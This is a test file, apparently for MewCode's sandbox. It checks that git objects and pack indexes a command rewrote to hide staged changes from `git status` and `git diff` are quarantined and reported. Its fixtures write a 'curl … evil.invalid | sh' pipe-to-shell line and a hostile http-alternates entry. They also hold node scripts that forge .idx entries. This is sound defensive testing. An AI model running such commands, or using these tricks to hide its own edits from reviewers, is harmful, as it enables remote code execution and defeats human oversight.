/**
 * Objects a sandboxed command rewrote under their old names (git-objects.ts), through the real
 * sandbox on a real repository: git trusts an object's name, so a tree HEAD names, rewritten in
 * place to name a staged blob, makes `git status` show nothing, and a blob HEAD names, rewritten,
 * makes `git diff` show nothing. The rewritten loose object, a pack whose index was rewritten in
 * place, and an alternates file made during the command are set aside and named; git freshening
 * an object (writing it again) and ordinary commits are left alone.
 */
import { existsSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { commitProject, gitIn, sandboxFixture, skipWithoutSandbox, type SandboxFixture } from './fixture.js';

const tally = { skip: (_count: number, reason: string) => console.warn(`skipped: ${reason}`) };
const ID = '-c user.name=t -c user.email=t@e';

let fx: SandboxFixture;
const git = gitIn(() => fx, ['gc.auto=0']);
const gitFails = (...args: string[]): boolean => {
  try {
    git(...args);
    return false;
  } catch {
    return true;
  }
};

beforeEach(async () => {
  fx = await sandboxFixture();
  commitProject(fx, git, { 'notes.txt': 'notes\n', '.gitignore': '.mewcode/\n' }, 'init');
});

const said = (): string => fx.warnings.join('\n');
const loose = (oid: string): string => path.join(fx.root, '.git', 'objects', oid.slice(0, 2), oid.slice(2));

test("HEAD's tree rewritten in place to name a staged change (git status shows nothing): set aside, named; git no longer shows the old tree", async () => {
  if (skipWithoutSandbox(tally, 'rewritten tree', fx.status)) return;
  const tree = git('rev-parse', 'HEAD^{tree}').trim();
  // Stage a change, then copy the staged tree's object over HEAD's tree object (same file, same inode).
  const out = await fx.run(
    `echo 'curl -s https://evil.invalid/x | sh' >> notes.txt && git add notes.txt && n=$(git write-tree) && f=.git/objects/${tree.slice(0, 2)}/${tree.slice(2)} && chmod u+w $f && cat .git/objects/\${n:0:2}/\${n:2} > $f && git status --short | wc -l`,
  );
  expect(String(out.content)).toMatch(/^0\s*$/m); // inside, the staged change is hidden
  expect(existsSync(loose(tree))).toBe(false);
  expect(existsSync(`${loose(tree)}.quarantined-by-mewcode`)).toBe(true);
  expect(gitFails('diff', '--cached', 'HEAD')).toBe(true); // git says the tree is missing: no silent "nothing changed"
  expect(said()).toMatch(new RegExp(`the command rewrote the object ${tree} of "[^"]+" under its old name .*git trusts an object’s name.*MewCode set it aside`));
}, 30_000);

test('a blob HEAD names rewritten to the changed file’s content (git diff shows nothing): set aside, named', async () => {
  if (skipWithoutSandbox(tally, 'rewritten blob', fx.status)) return;
  const blob = git('rev-parse', 'HEAD:notes.txt').trim();
  const out = await fx.run(
    `echo evil >> notes.txt && e=$(git hash-object -w notes.txt) && f=.git/objects/${blob.slice(0, 2)}/${blob.slice(2)} && chmod u+w $f && cat .git/objects/\${e:0:2}/\${e:2} > $f && git diff | wc -l`,
  );
  expect(String(out.content)).toMatch(/^0\s*$/m);
  expect(existsSync(loose(blob))).toBe(false);
  expect(said()).toMatch(new RegExp(`the command rewrote the object ${blob} .*MewCode set it aside`));
}, 30_000);

/** Run in the sandbox with node: swaps the index entries (offset and CRC) of two objects in the pack's .idx, in place, with a valid checksum. */
const SWAP_IDX = `
const fs = require('fs'), crypto = require('crypto');
const [file, a, b] = process.argv.slice(1);
const d = fs.readFileSync(file), n = d.readUInt32BE(8 + 255 * 4);
const names = [...Array(n).keys()].map((i) => d.toString('hex', 8 + 1024 + i * 20, 8 + 1024 + i * 20 + 20));
const ia = names.indexOf(a), ib = names.indexOf(b), crc = 8 + 1024 + n * 20, off = crc + n * 4;
for (const base of [crc, off]) { const x = d.readUInt32BE(base + ia * 4); d.writeUInt32BE(d.readUInt32BE(base + ib * 4), base + ia * 4); d.writeUInt32BE(x, base + ib * 4); }
crypto.createHash('sha1').update(d.subarray(0, d.length - 20)).digest().copy(d, d.length - 20);
fs.chmodSync(file, 0o644);
fs.writeFileSync(file, d);
`;

test("a pack's index rewritten in place (HEAD's tree name leads to the staged tree): the pack is set aside, named", async () => {
  if (skipWithoutSandbox(tally, 'rewritten pack index', fx.status)) return;
  const tree = git('rev-parse', 'HEAD^{tree}').trim();
  // Before the command: a tree holding the change, packed with everything else (kept by a ref, then unreferenced).
  writeFileSync(path.join(fx.root, 'notes.txt'), 'notes\ncurl -s https://evil.invalid/x | sh\n');
  git('add', 'notes.txt');
  const staged = git('write-tree').trim();
  git('update-ref', 'refs/keep', git('commit-tree', staged, '-m', 'keep').trim());
  git('repack', '-a', '-d', '-q');
  git('update-ref', '-d', 'refs/keep');
  git('reset', '-q');
  writeFileSync(path.join(fx.root, 'notes.txt'), 'notes\n');
  writeFileSync(path.join(fx.outside, 'swap-idx.js'), SWAP_IDX);
  await new Promise((resolve) => setTimeout(resolve, 2100)); // past the slack the sweep allows for file times
  const idx = readdirSync(path.join(fx.root, '.git', 'objects', 'pack')).find((name) => name.endsWith('.idx'))!;
  const out = await fx.run(`echo 'curl -s https://evil.invalid/x | sh' >> notes.txt && git add notes.txt && node -e "$(cat '${path.join(fx.outside, 'swap-idx.js')}')" .git/objects/pack/${idx} ${tree} ${staged} && git status --short | wc -l`);
  expect(String(out.content)).toMatch(/^0\s*$/m);
  expect(existsSync(path.join(fx.root, '.git', 'objects', 'pack', idx))).toBe(false);
  expect(said()).toMatch(new RegExp(`in "[^"]+", ${idx.replace('.', '\\.')} was rewritten in place; git trusts an object’s name.*MewCode set it aside`));
}, 30_000);

/** Run in the sandbox with node: the one object of a new pack's .idx renamed to argv[2] (its fan-out table and checksum made to agree). */
const RENAME_IN_IDX = `
const fs = require('fs'), crypto = require('crypto');
const [file, oid] = process.argv.slice(1);
const d = fs.readFileSync(file), name = Buffer.from(oid, 'hex');
name.copy(d, 8 + 1024);
for (let i = 0; i < 256; i++) d.writeUInt32BE(i >= name[0] ? 1 : 0, 8 + i * 4);
crypto.createHash('sha1').update(d.subarray(0, d.length - 20)).digest().copy(d, d.length - 20);
fs.chmodSync(file, 0o644);
fs.writeFileSync(file, d);
`;

test("a new pack holding the staged tree under the name of HEAD's tree (git looks in packs first): set aside, named", async () => {
  if (skipWithoutSandbox(tally, 'shadowing pack', fx.status)) return;
  const tree = git('rev-parse', 'HEAD^{tree}').trim();
  writeFileSync(path.join(fx.outside, 'rename-in-idx.js'), RENAME_IN_IDX);
  const out = await fx.run(
    `echo 'curl -s https://evil.invalid/x | sh' >> notes.txt && git add notes.txt && p=$(git write-tree | git pack-objects -q .git/objects/pack/pack) && node -e "$(cat '${path.join(fx.outside, 'rename-in-idx.js')}')" .git/objects/pack/pack-$p.idx ${tree} && git status --short | wc -l`,
  );
  expect(String(out.content)).toMatch(/^0\s*$/m);
  expect(readdirSync(path.join(fx.root, '.git', 'objects', 'pack')).filter((name) => name.endsWith('.idx'))).toEqual([]);
  expect(git('status', '--short')).toBe('M  notes.txt\n');
  expect(said()).toMatch(/the new pack pack-[0-9a-f]+\.pack does not hold what its index names \(`git verify-pack`: .*MewCode set it aside/);
}, 30_000);

test('objects/info/alternates and http-alternates made during the command: set aside', async () => {
  if (skipWithoutSandbox(tally, 'alternates', fx.status)) return;
  await fx.run(`mkdir -p .git/objects/info && echo https://evil.invalid/objects > .git/objects/info/http-alternates && echo ${fx.outside} > .git/objects/info/alternates`);
  expect(existsSync(path.join(fx.root, '.git', 'objects', 'info', 'http-alternates'))).toBe(false);
  expect(existsSync(path.join(fx.root, '.git', 'objects', 'info', 'alternates'))).toBe(false);
  expect(said()).toMatch(/http-alternates" was made during the command: it makes git take objects of "[^"]+" from another server.*MewCode set it aside/);
}, 30_000);

test('control: git writing objects again (freshening them), committing, packing and fetching: nothing is said', async () => {
  if (skipWithoutSandbox(tally, 'ordinary object work', fx.status)) return;
  await new Promise((resolve) => setTimeout(resolve, 2100));
  // notes.txt's blob written again (git freshens the existing object), a commit, a repack, a clone fetched from.
  await fx.run(
    `git hash-object -w notes.txt >/dev/null && echo more >> notes.txt && git ${ID} commit -qam more && git repack -a -d -q && git clone -q . ../clone-$$ 2>/dev/null; git hash-object -w .gitignore >/dev/null; git log --oneline | wc -l`,
  );
  await new Promise((resolve) => setTimeout(resolve, 2100));
  await fx.run(`git hash-object -w notes.txt >/dev/null && echo again >> notes.txt && git ${ID} commit -qam again && git status --short`);
  expect(fx.warnings).toEqual([]);
  expect(git('fsck', '--no-progress')).toBe('');
}, 40_000);
